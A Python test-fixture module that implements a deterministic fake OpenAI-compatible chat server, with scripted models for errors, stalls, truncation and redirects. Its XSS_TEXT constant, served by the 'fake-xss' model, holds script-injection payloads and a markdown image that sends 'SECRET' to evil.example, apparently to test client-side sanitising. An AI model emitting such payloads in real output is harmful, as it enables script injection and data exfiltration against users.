"""A local OpenAI-compatible HTTP server for tests, browser tests and benchmarks.

Standard library only: asyncio streams, hand-written HTTP/1.1 with keep-alive,
chunked transfer-encoding for SSE streams. Every model id below behaves
deterministically, so a client can check each token it receives.

Use it in one of three ways:

* In a background thread (tests, benchmarks)::

      up = FakeUpstream(tokens=50).start()   # returns once listening
      client = OpenAI(base_url=up.base_url, api_key="x")
      ...
      up.stop()

* Inside an event loop that is already running::

      up = FakeUpstream()
      await up.start_async()     # listening when this returns
      ...
      await up.stop_async()

  (`await up.serve()` starts it and then runs until cancelled.)

* As a process::

      python -m chat.llm.fake_upstream --host 127.0.0.1 --port 8100 --tokens 100 --gap-ms 20

  which prints ``listening on http://127.0.0.1:PORT/v1`` once ready.

Endpoints: ``GET /v1/models``, ``POST /v1/chat/completions`` (stream true or
false), ``GET /stats`` (the counters as JSON), ``GET /stats/abandoned`` (one
record per abandoned stream since the last reset: ``eof_at``, when the client's
close was seen, and ``at``, when the stream ended, both ``time.monotonic()``
seconds, which on Linux compare across processes; ``sent``, tokens sent) and
``POST /stats/reset``.

Counters (``stats``): ``started`` counts chat-completion requests for a known
model; each of them ends as ``completed`` (the server played its script to the
end, including the scripted errors and the abrupt close of ``fake-cut``) or
``abandoned`` (the client went away first); ``active`` is the number in flight.

Models:

* ``fake-echo``: "Echo: " + the last user message, one token per word
  (the word and the whitespace after it), ``gap_ms`` apart.
* ``fake-count``: "tok0 ", "tok1 ", ... ``min(tokens, max_tokens)`` tokens;
  finish_reason "length" when max_tokens cut the reply, else "stop".
* ``fake-error-500`` / ``-401`` / ``-429``: that status with an OpenAI error body
  whose message contains ``UPSTREAM-SECRET-DETAIL``.
* ``fake-cut``: 3 tokens, then the TCP connection is aborted.
* ``fake-stall``: 2 tokens, then silence for ``stall_seconds``, then one more
  token and a normal end. A client disconnect during the stall is seen at once.
* ``fake-length``: 5 tokens, finish_reason "length".
* ``fake-truncated``: 3 tokens, then the body ends cleanly with neither a
  ``finish_reason`` nor ``[DONE]`` (a proxy that cut the reply short).
* ``fake-odd``: an empty-choices chunk, unknown extra fields, a token with a NUL
  character ("a\\u0000b "), finish_reason "stop", then the stream ends cleanly
  without ``data: [DONE]``.
* ``fake-xss``: a hostile string cut into 3-character chunks.
* ``fake-slow``: like fake-echo with 200 ms between tokens.
* ``fake-late``: silence for 1 s before its first token, then "late reply".
* ``fake-redirect``: a 307 to this server's own chat-completions URL (a client
  that follows it shows up as a second ``started``).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import re
import sys
import threading
import time
from http import HTTPStatus

MODELS = (
    "fake-echo",
    "fake-count",
    "fake-error-500",
    "fake-error-401",
    "fake-error-429",
    "fake-cut",
    "fake-stall",
    "fake-length",
    "fake-odd",
    "fake-truncated",
    "fake-xss",
    "fake-slow",
    "fake-late",
    "fake-redirect",
)

SECRET_DETAIL = "UPSTREAM-SECRET-DETAIL"
XSS_TEXT = (
    "Hi <img src=x onerror=alert(1)> [x](javascript:alert(1)) "
    "![p](http://evil.example/p.png?q=SECRET) <script>alert(2)</script>"
)
SLOW_GAP_S = 0.2
LATE_FIRST_TOKEN_S = 1.0
_SILENCE = object()  # in a token list: LATE_FIRST_TOKEN_S without a byte
MAX_HEADER_BYTES = 64 * 1024
MAX_BODY_BYTES = 16 * 1024 * 1024

_WORD = re.compile(r"\S+\s*")
_ERRORS = {
    "fake-error-500": (500, "server_error", None),
    "fake-error-401": (401, "invalid_request_error", "invalid_api_key"),
    "fake-error-429": (429, "requests", "rate_limit_exceeded"),
}
_ids = itertools.count(1)


class _Disconnected(Exception):
    """The client went away."""


class _Cut(Exception):
    """The script asks for an abrupt close of the connection."""


def _dumps(obj) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def _error_body(message: str, type_: str, code: str | None = None, param=None) -> bytes:
    return _dumps(
        {"error": {"message": message, "type": type_, "param": param, "code": code}}
    ).encode()


def _text_of(content) -> str:
    if isinstance(content, str):
        return content
    if isinstance(content, list):  # content parts
        return " ".join(
            p.get("text", "") for p in content if isinstance(p, dict) and p.get("type") == "text"
        )
    return ""


class _Conn:
    """A buffered reader over a StreamReader, plus disconnect detection."""

    __slots__ = ("reader", "writer", "buf", "eof", "eof_at", "watch")

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self.reader = reader
        self.writer = writer
        self.buf = bytearray()
        self.eof = False
        self.eof_at: float | None = None
        self.watch: asyncio.Task | None = None

    async def _fill(self) -> None:
        data = await self.reader.read(65536)
        if not data:
            self.eof = True
            self.eof_at = time.monotonic()
            raise _Disconnected
        self.buf += data

    async def read_head(self) -> bytes | None:
        while True:
            i = self.buf.find(b"\r\n\r\n")
            if i >= 0:
                head = bytes(self.buf[:i])
                del self.buf[: i + 4]
                return head
            if len(self.buf) > MAX_HEADER_BYTES:
                raise ValueError("header too large")
            try:
                await self._fill()
            except _Disconnected:
                return None

    async def read_exact(self, n: int) -> bytes:
        while len(self.buf) < n:
            await self._fill()
        data = bytes(self.buf[:n])
        del self.buf[:n]
        return data

    async def read_line(self) -> bytes:
        while True:
            i = self.buf.find(b"\r\n")
            if i >= 0:
                line = bytes(self.buf[:i])
                del self.buf[: i + 2]
                return line
            await self._fill()

    # While a response streams, a task keeps reading so that EOF is seen at once.
    def start_watch(self) -> None:
        self.watch = asyncio.get_running_loop().create_task(self._watch())

    async def _watch(self) -> None:
        with contextlib.suppress(_Disconnected, ConnectionError, OSError):
            while len(self.buf) < MAX_BODY_BYTES:
                await self._fill()

    async def stop_watch(self) -> None:
        if self.watch is not None:
            self.watch.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self.watch
            self.watch = None

    @property
    def gone(self) -> bool:
        return self.eof or self.writer.transport.is_closing()

    async def pause(self, seconds: float) -> None:
        """Sleep, but return early (raising _Disconnected) if the client goes away."""
        if self.watch is not None and seconds > 0.25:
            await asyncio.wait((self.watch,), timeout=seconds)
        elif seconds > 0:
            await asyncio.sleep(seconds)  # cheaper; a disconnect is seen on the next token
        if self.gone:
            raise _Disconnected


class FakeUpstream:
    """A deterministic OpenAI-compatible server (see the module docstring)."""

    def __init__(
        self,
        host: str = "127.0.0.1",
        port: int = 0,
        tokens: int = 20,
        gap_ms: float = 0.0,
        stall_seconds: float = 3600.0,
    ):
        self.host = host
        self._port = port
        self.tokens = tokens
        self.gap_ms = gap_ms
        self.stall_seconds = stall_seconds
        self._stats = {"started": 0, "completed": 0, "abandoned": 0, "active": 0}
        self._abandoned: list[dict] = []
        self._server: asyncio.base_events.Server | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._conns: set[asyncio.StreamWriter] = set()

    # -- public API -----------------------------------------------------------------------------
    @property
    def port(self) -> int:
        return self._port

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._port}/v1"

    @property
    def stats(self) -> dict[str, int]:
        return dict(self._stats)

    def reset_stats(self) -> None:
        """Zero started/completed/abandoned; `active` keeps counting what is in flight."""
        for key in ("started", "completed", "abandoned"):
            self._stats[key] = 0
        self._abandoned.clear()

    @property
    def abandoned(self) -> list[dict]:
        """One record per abandoned stream since the last reset (see the module docstring)."""
        return [dict(r) for r in self._abandoned]

    async def start_async(self) -> FakeUpstream:
        """Start listening on the running loop; returns once the socket is bound."""
        self._loop = asyncio.get_running_loop()
        self._server = await asyncio.start_server(
            self._handle, self.host, self._port, backlog=4096, limit=MAX_HEADER_BYTES
        )
        self._port = self._server.sockets[0].getsockname()[1]
        return self

    async def stop_async(self) -> None:
        if self._server is not None:
            self._server.close()
            for writer in list(self._conns):
                writer.transport.abort()
            await self._server.wait_closed()
            self._server = None

    async def serve(self) -> None:
        """Start (if needed) and serve until cancelled."""
        if self._server is None:
            await self.start_async()
        try:
            await asyncio.Event().wait()
        finally:
            await self.stop_async()

    def start(self) -> FakeUpstream:
        """Run the server in a daemon thread with its own loop; returns once listening."""
        ready = threading.Event()
        failure: list[BaseException] = []

        def run() -> None:
            loop = asyncio.new_event_loop()
            asyncio.set_event_loop(loop)
            try:
                loop.run_until_complete(self.start_async())
            except BaseException as exc:  # handed to the starting thread
                failure.append(exc)
                ready.set()
                loop.close()
                return
            ready.set()
            try:
                loop.run_forever()
            finally:
                loop.run_until_complete(self.stop_async())
                pending = [t for t in asyncio.all_tasks(loop) if not t.done()]
                for task in pending:
                    task.cancel()
                if pending:
                    loop.run_until_complete(asyncio.gather(*pending, return_exceptions=True))
                loop.close()

        self._thread = threading.Thread(target=run, name="fake-upstream", daemon=True)
        self._thread.start()
        ready.wait()
        if failure:
            raise failure[0]
        return self

    def stop(self) -> None:
        """Stop a server started with start() (use stop_async() after start_async())."""
        if self._thread is not None and self._loop is not None:
            self._loop.call_soon_threadsafe(self._loop.stop)
            self._thread.join(timeout=10)
            self._thread = None

    def __enter__(self) -> FakeUpstream:
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    # -- HTTP -----------------------------------------------------------------------------------
    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._conns.add(writer)
        conn = _Conn(reader, writer)
        try:
            while True:
                try:
                    head = await conn.read_head()
                    if head is None:
                        return
                    keep_alive = await self._request(conn, head)
                except ValueError:  # malformed request framing
                    err = _error_body("Malformed HTTP request", "invalid_request_error")
                    await self._send(conn, 400, err, False)
                    return
                if not keep_alive:
                    return
        except (_Disconnected, _Cut, ConnectionError, OSError):
            pass
        finally:
            self._conns.discard(writer)
            await conn.stop_watch()
            if not writer.transport.is_closing():
                writer.close()

    async def _request(self, conn: _Conn, head: bytes) -> bool:
        lines = head.decode("latin-1").split("\r\n")
        try:
            method, target, version = lines[0].split(" ", 2)
        except ValueError:
            await self._send(conn, 400, _error_body("Bad request line", "invalid_request"), False)
            return False
        headers: dict[str, str] = {}
        for line in lines[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        conn_hdr = headers.get("connection", "").lower()
        keep_alive = (version == "HTTP/1.1" and "close" not in conn_hdr) or (
            version == "HTTP/1.0" and "keep-alive" in conn_hdr
        )

        body = b""
        if "chunked" in headers.get("transfer-encoding", "").lower():
            parts = []
            while True:
                size = int((await conn.read_line()).split(b";")[0], 16)
                if size == 0:
                    while await conn.read_line():  # trailers
                        pass
                    break
                parts.append(await conn.read_exact(size))
                await conn.read_exact(2)
            body = b"".join(parts)
        elif headers.get("content-length"):
            length = int(headers["content-length"])
            if length > MAX_BODY_BYTES:
                await self._send(conn, 413, _error_body("Body too large", "invalid_request"), False)
                return False
            body = await conn.read_exact(length)

        path = target.split("?", 1)[0].rstrip("/")
        if path in ("/v1/models", "/models") and method == "GET":
            data = {
                "object": "list",
                "data": [
                    {"id": m, "object": "model", "created": 1700000000, "owned_by": "fake"}
                    for m in MODELS
                ],
            }
            await self._send(conn, 200, _dumps(data).encode(), keep_alive)
        elif path in ("/v1/chat/completions", "/chat/completions") and method == "POST":
            return await self._chat(conn, body, keep_alive)
        elif path == "/stats" and method == "GET":
            await self._send(conn, 200, _dumps(self.stats).encode(), keep_alive)
        elif path == "/stats/abandoned" and method == "GET":
            await self._send(conn, 200, _dumps(self.abandoned).encode(), keep_alive)
        elif path == "/stats/reset" and method == "POST":
            self.reset_stats()
            await self._send(conn, 200, _dumps(self.stats).encode(), keep_alive)
        elif path in ("/v1/models", "/v1/chat/completions", "/stats", "/stats/reset"):
            await self._send(
                conn, 405, _error_body("Method not allowed", "invalid_request_error"), keep_alive
            )
        else:
            msg = f"Unknown path {path}"
            await self._send(conn, 404, _error_body(msg, "invalid_request_error"), keep_alive)
        return keep_alive

    async def _send(
        self,
        conn: _Conn,
        status: int,
        body: bytes,
        keep_alive: bool = True,
        content_type: str = "application/json",
        extra: str = "",
    ) -> None:
        reason = HTTPStatus(status).phrase
        head = (
            f"HTTP/1.1 {status} {reason}\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {len(body)}\r\n{extra}"
            f"Connection: {'keep-alive' if keep_alive else 'close'}\r\n\r\n"
        )
        conn.writer.write(head.encode() + body)
        await conn.writer.drain()

    # -- chat completions -----------------------------------------------------------------------
    async def _chat(self, conn: _Conn, body: bytes, keep_alive: bool) -> bool:
        try:
            req = json.loads(body)
            if not isinstance(req, dict):
                raise ValueError("not an object")
        except ValueError:
            err = _error_body(
                "We could not parse the JSON body of your request.", "invalid_request_error"
            )
            await self._send(conn, 400, err, keep_alive)
            return keep_alive
        model = req.get("model")
        if model not in MODELS:
            err = _error_body(
                f"The model `{model}` does not exist or you do not have access to it.",
                "invalid_request_error",
                "model_not_found",
            )
            await self._send(conn, 404, err, keep_alive)
            return keep_alive
        messages = req.get("messages") if isinstance(req.get("messages"), list) else []
        stream = bool(req.get("stream"))
        include_usage = stream and bool((req.get("stream_options") or {}).get("include_usage"))
        max_tokens = req.get("max_completion_tokens", req.get("max_tokens"))
        if not isinstance(max_tokens, int) or isinstance(max_tokens, bool) or max_tokens < 1:
            max_tokens = None

        self._stats["started"] += 1
        self._stats["active"] += 1
        outcome = "abandoned"
        script = None
        try:
            if model == "fake-redirect":
                location = f"Location: {self.base_url}/chat/completions\r\n"
                await self._send(conn, 307, b"", keep_alive, extra=location)
                outcome = "completed"
                return keep_alive
            if model in _ERRORS:
                status, type_, code = _ERRORS[model]
                msg = f"{SECRET_DETAIL}: simulated {status} from the fake upstream"
                extra = "Retry-After: 1\r\n" if status == 429 else ""
                await self._send(
                    conn, status, _error_body(msg, type_, code), keep_alive, extra=extra
                )
                outcome = "completed"
                return keep_alive
            script = _Script(self, model, messages, max_tokens)
            if stream:
                result = await self._stream(conn, script, model, include_usage, keep_alive)
            else:
                result = await self._complete(conn, script, model, keep_alive)
            outcome = "completed"
            return result
        except _Cut:
            outcome = "completed"
            conn.writer.transport.abort()
            raise
        finally:
            self._stats["active"] -= 1
            self._stats[outcome] += 1
            if outcome == "abandoned" and len(self._abandoned) < 100_000:
                now = time.monotonic()
                self._abandoned.append(
                    {
                        "at": now,
                        "eof_at": conn.eof_at if conn.eof_at is not None else now,
                        "sent": script.sent if script is not None else 0,
                    }
                )

    async def _complete(self, conn: _Conn, script: _Script, model: str, keep_alive: bool) -> bool:
        conn.start_watch()
        try:
            parts = []
            async for piece in script.run(conn):
                parts.append(piece)
        finally:
            await conn.stop_watch()
        data = {
            "id": f"chatcmpl-fake{next(_ids)}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": model,
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": "".join(parts), "refusal": None},
                    "logprobs": None,
                    "finish_reason": script.finish_reason,
                }
            ],
            "usage": script.usage(),
            "system_fingerprint": "fp_fake",
        }
        await self._send(conn, 200, _dumps(data).encode(), keep_alive)
        return keep_alive

    async def _stream(
        self, conn: _Conn, script: _Script, model: str, include_usage: bool, keep_alive: bool
    ) -> bool:
        writer = conn.writer
        cid = f"chatcmpl-fake{next(_ids)}"
        created = int(time.time())
        usage_tail = ',"usage":null' if include_usage else ""
        prefix = (
            f'{{"id":"{cid}","object":"chat.completion.chunk","created":{created},'
            f'"model":{_dumps(model)},"system_fingerprint":"fp_fake","choices":'
        )

        def event(choices: str, tail: str = usage_tail) -> bytes:
            data = f"data: {prefix}{choices}{tail}}}\n\n".encode()
            return b"%x\r\n%b\r\n" % (len(data), data)

        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream; charset=utf-8\r\n"
            b"Cache-Control: no-cache\r\nTransfer-Encoding: chunked\r\n"
            + (b"Connection: keep-alive\r\n\r\n" if keep_alive else b"Connection: close\r\n\r\n")
        )
        writer.write(
            event(
                '[{"index":0,"delta":{"role":"assistant","content":"","refusal":null},'
                '"logprobs":null,"finish_reason":null}]'
            )
        )
        conn.start_watch()
        try:
            async for piece in script.run(conn):
                if piece is _EMPTY_CHOICES:
                    writer.write(event("[]"))
                elif piece is _EXTRA_FIELDS:
                    writer.write(
                        event(
                            '[{"index":0,"delta":{"content":"","x_unknown":[1,2]},'
                            '"logprobs":null,"finish_reason":null,"x_choice_extra":true}]',
                            usage_tail + ',"x_vendor_field":{"nested":"value"}',
                        )
                    )
                else:
                    writer.write(
                        event(
                            f'[{{"index":0,"delta":{{"content":{_dumps(piece)}}},'
                            f'"logprobs":null,"finish_reason":null}}]'
                        )
                    )
                await writer.drain()
                if conn.gone:
                    raise _Disconnected
            if script.finish_reason is not None:
                writer.write(
                    event(
                        f'[{{"index":0,"delta":{{}},"logprobs":null,'
                        f'"finish_reason":"{script.finish_reason}"}}]'
                    )
                )
            if include_usage:
                writer.write(event("[]", f',"usage":{_dumps(script.usage())}'))
            if not script.no_done:
                data = b"data: [DONE]\n\n"
                writer.write(b"%x\r\n%b\r\n" % (len(data), data))
            writer.write(b"0\r\n\r\n")
            await writer.drain()
        finally:
            await conn.stop_watch()
        return keep_alive


_EMPTY_CHOICES = object()
_EXTRA_FIELDS = object()


class _Script:
    """What a model says, and when; `run` yields text pieces (or marker objects)."""

    def __init__(self, up: FakeUpstream, model: str, messages: list, max_tokens: int | None):
        self.up = up
        self.model = model
        self.messages = messages
        self.max_tokens = max_tokens
        self.finish_reason = "stop"
        self.no_done = model in ("fake-odd", "fake-truncated")
        self.sent = 0
        self.prompt_tokens = sum(
            len(_text_of(m.get("content")).split()) for m in messages if isinstance(m, dict)
        )

    def usage(self) -> dict[str, int]:
        return {
            "prompt_tokens": self.prompt_tokens,
            "completion_tokens": self.sent,
            "total_tokens": self.prompt_tokens + self.sent,
        }

    def _echo_tokens(self) -> list[str]:
        last = ""
        for m in reversed(self.messages):
            if isinstance(m, dict) and m.get("role") == "user":
                last = _text_of(m.get("content"))
                break
        return _WORD.findall("Echo: " + last)

    async def run(self, conn: _Conn):
        gap = self.up.gap_ms / 1000.0
        model = self.model
        if model in ("fake-echo", "fake-slow"):
            tokens = self._echo_tokens()
            if model == "fake-slow":
                gap = SLOW_GAP_S
        elif model == "fake-count":
            n = self.up.tokens
            if self.max_tokens is not None and self.max_tokens < n:
                n = self.max_tokens
                self.finish_reason = "length"
            tokens = [f"tok{i} " for i in range(n)]
        elif model == "fake-length":
            tokens = [f"tok{i} " for i in range(5)]
            self.finish_reason = "length"
        elif model == "fake-cut":
            tokens = [f"tok{i} " for i in range(3)]
        elif model == "fake-stall":
            tokens = ["tok0 ", "tok1 ", None, "tok2"]
        elif model == "fake-odd":
            tokens = [_EMPTY_CHOICES, "odd ", _EXTRA_FIELDS, "a\u0000b ", "end"]
        elif model == "fake-truncated":
            tokens = [f"tok{i} " for i in range(3)]
            self.finish_reason = None
        elif model == "fake-late":
            tokens = [_SILENCE, "late ", "reply"]
        elif model == "fake-xss":
            tokens = [XSS_TEXT[i : i + 3] for i in range(0, len(XSS_TEXT), 3)]
        else:  # pragma: no cover - guarded by MODELS
            tokens = []

        first = True
        for tok in tokens:
            if tok is None:  # the stall
                await conn.pause(self.up.stall_seconds)
                continue
            if tok is _SILENCE:
                await conn.pause(LATE_FIRST_TOKEN_S)
                continue
            if not first and gap > 0:
                await conn.pause(gap)
            elif conn.gone:
                raise _Disconnected
            first = False
            if isinstance(tok, str):
                self.sent += 1
            yield tok
        if model == "fake-cut":
            raise _Cut


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="Fake OpenAI-compatible upstream server")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8100)
    parser.add_argument("--tokens", type=int, default=20)
    parser.add_argument("--gap-ms", type=float, default=0.0)
    parser.add_argument("--stall-seconds", type=float, default=3600.0)
    args = parser.parse_args(argv)
    up = FakeUpstream(args.host, args.port, args.tokens, args.gap_ms, args.stall_seconds)

    async def run() -> None:
        await up.start_async()
        print(f"listening on http://{args.host}:{up.port}/v1", flush=True)
        await up.serve()

    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(run())
    sys.exit(0)


if __name__ == "__main__":
    main()
